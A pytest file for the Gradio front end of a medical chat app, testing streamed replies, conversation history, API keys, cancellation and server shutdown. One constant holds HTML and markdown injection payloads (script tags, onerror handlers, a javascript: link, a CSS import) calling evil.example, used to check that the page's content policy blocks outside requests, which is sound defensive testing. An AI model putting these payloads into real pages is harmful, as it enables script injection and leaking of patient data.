"""The Gradio front end: its way to the API with no Gradio, and its page in a browser where Gradio is installed."""

import importlib.util
import subprocess
import sys
import threading
import time
from pathlib import Path
from types import ModuleType

import pytest
from playwright.sync_api import Browser, Request

from bedside.runtime.scripted import ScriptedBackend
from bedside.serve.keys import Keys
from bedside.text.prompts import NOTICE

from .serve.conftest import PATIENCE_S, EndlessSpeaker, Serving, serving  # noqa: F401 - a fixture

APP = Path(__file__).parents[1] / "spaces" / "app.py"
REASONED = ("The right atrium is full.", "**Failure** of the right heart.")
HOSTILE = (
    "",
    "Seen. ![x](http://evil.example/y?q=patient) <img src=http://evil.example/x onerror=\"document.title='owned'\"> "
    "<script>document.title='owned'</script> [c](javascript:alert(1)) <style>@import 'http://evil.example/z';</style>",
)


@pytest.fixture
def app(monkeypatch: pytest.MonkeyPatch) -> ModuleType:
    monkeypatch.delenv("BEDSIDE_API_KEY", raising=False)
    spec = importlib.util.spec_from_file_location("spaces_app", APP)
    assert spec
    assert spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


def test_it_has_at_most_120_lines_and_loads_without_gradio(app: ModuleType) -> None:
    assert len(APP.read_text(encoding="utf-8").splitlines()) <= 120
    assert app.replies


def test_reasoning_and_answer_grow_apart_and_the_reasoning_is_folded(app: ModuleType, serving: Serving) -> None:  # noqa: F811
    with serving(ScriptedBackend([REASONED])) as url:
        seen = list(app.replies(url, "What raises the JVP?", []))
    reasoning, answer = seen[-1]
    assert (reasoning["content"].strip(), answer["content"].strip()) == REASONED
    assert reasoning["metadata"] == {"title": "Reasoning", "status": "done"}
    assert [len(shown[-1]["content"]) for shown in seen] == sorted(len(shown[-1]["content"]) for shown in seen)


def test_what_was_said_before_is_told_to_the_model_without_its_reasoning(app: ModuleType, serving: Serving) -> None:  # noqa: F811
    speaker = ScriptedBackend([("", "Because.")])
    history = [
        {"role": "user", "content": [{"type": "text", "text": "What raises the JVP?"}]},
        *app.messages(*REASONED),
    ]
    with serving(speaker) as url:
        list(app.replies(url, "Why?", history))
    assert [(turn.role, turn.content) for turn in speaker.asked[0][-3:]] == [
        ("user", "What raises the JVP?"),
        ("assistant", REASONED[1]),
        ("user", "Why?"),
    ]


def test_a_server_that_refuses_fails_or_is_not_there_is_told_in_the_chat(app: ModuleType, serving: Serving) -> None:  # noqa: F811
    with serving(ScriptedBackend([]), app={"keys": Keys().with_given("k")}) as url:
        assert "wants its API key" in list(app.replies(url, "x", []))[-1][-1]["content"]
    assert "cannot be reached" in list(app.replies(url, "x", []))[-1][-1]["content"]


def test_the_key_of_the_environment_is_sent(
    app: ModuleType, serving: Serving, monkeypatch: pytest.MonkeyPatch  # noqa: F811
) -> None:  # fmt: skip
    monkeypatch.setenv("BEDSIDE_API_KEY", "k")
    with serving(ScriptedBackend([REASONED]), app={"keys": Keys().with_given("k")}) as url:
        assert "Failure" in list(app.replies(url, "x", []))[-1][-1]["content"]


def test_a_person_who_leaves_stops_the_model(app: ModuleType, serving: Serving) -> None:  # noqa: F811
    speaker = EndlessSpeaker()
    with serving(speaker) as url:
        shown = app.replies(url, "x", [])
        next(shown)
        shown.close()
        assert speaker.closed.acquire(timeout=PATIENCE_S)


def test_its_page_asks_nobody_else_whatever_the_answer_holds(
    app: ModuleType, serving: Serving, browser: Browser  # noqa: F811
) -> None:  # fmt: skip
    if not importlib.util.find_spec("gradio"):
        pytest.skip("gradio (283 MB) is not installed: pip install 'bedside[gradio]'")
    import uvicorn

    with serving(ScriptedBackend([(REASONED[0], HOSTILE[1])])) as url:
        server = uvicorn.Server(uvicorn.Config(app.page(url), port=0, log_level="error"))
        thread = threading.Thread(target=server.run, daemon=True)
        thread.start()
        while not server.started:
            time.sleep(0.05)
        address = f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}/"
        page = browser.new_page()
        asked: list[Request] = []
        blocked: list[Request] = []
        page.on("request", lambda request: asked.append(request))
        page.on("requestfailed", lambda request: blocked.append(request) if request.failure == "csp" else None)
        loaded = page.goto(address)
        assert loaded
        assert loaded.headers["x-dns-prefetch-control"] == "off"
        page.get_by_text(NOTICE).wait_for()
        page.get_by_role("textbox").first.fill("What raises the JVP?")
        page.keyboard.press("Enter")
        page.get_by_text("Seen.").first.wait_for()
        page.wait_for_timeout(1000)
        assert not page.get_by_text(REASONED[0]).first.is_visible()
        assert page.title() == "Bedside"
        outside = [each for each in asked if not each.url.startswith((address, "data:", "blob:"))]
        assert [each.url for each in outside if each not in blocked] == []
        assert outside, "the hostile answer did not even try"
        page.close()
        server.should_exit = True
        thread.join(PATIENCE_S)
    assert "gradio" in sys.modules


@pytest.mark.parametrize("stopped", ["itself", "by SIGTERM"])
def test_the_server_that_it_starts_can_say_much_and_ends_with_it(tmp_path: Path, stopped: str) -> None:
    server, said, ended = tmp_path / "server", tmp_path / "said", tmp_path / "ended"
    server.write_text(
        f"#!/bin/sh\ntrap 'touch {ended}; exit' TERM\necho at http://127.0.0.1:1/ >&2\n"
        f"head -c 300000 /dev/zero | tr '\\0' x >&2\ntouch {said}\nfor i in $(seq 200); do sleep 0.1; done\n"
    )
    server.chmod(0o755)
    code = (
        f"import os, runpy, signal, sys, time\nstarted = runpy.run_path({str(APP)!r})['started']\n"
        f"sys.executable = {str(server)!r}\nprint(started())\nfor i in range(50):\n"
        f"    if os.path.exists({str(said)!r}): break\n    time.sleep(0.1)\n"
        f"if {stopped != 'itself'}: os.kill(os.getpid(), signal.SIGTERM)\n"
    )
    subprocess.run([sys.executable, "-c", code], stderr=subprocess.DEVNULL, check=False, timeout=PATIENCE_S)
    until = time.monotonic() + 5
    while not ended.exists() and time.monotonic() < until:
        time.sleep(0.05)
    assert said.exists()
    assert ended.exists()
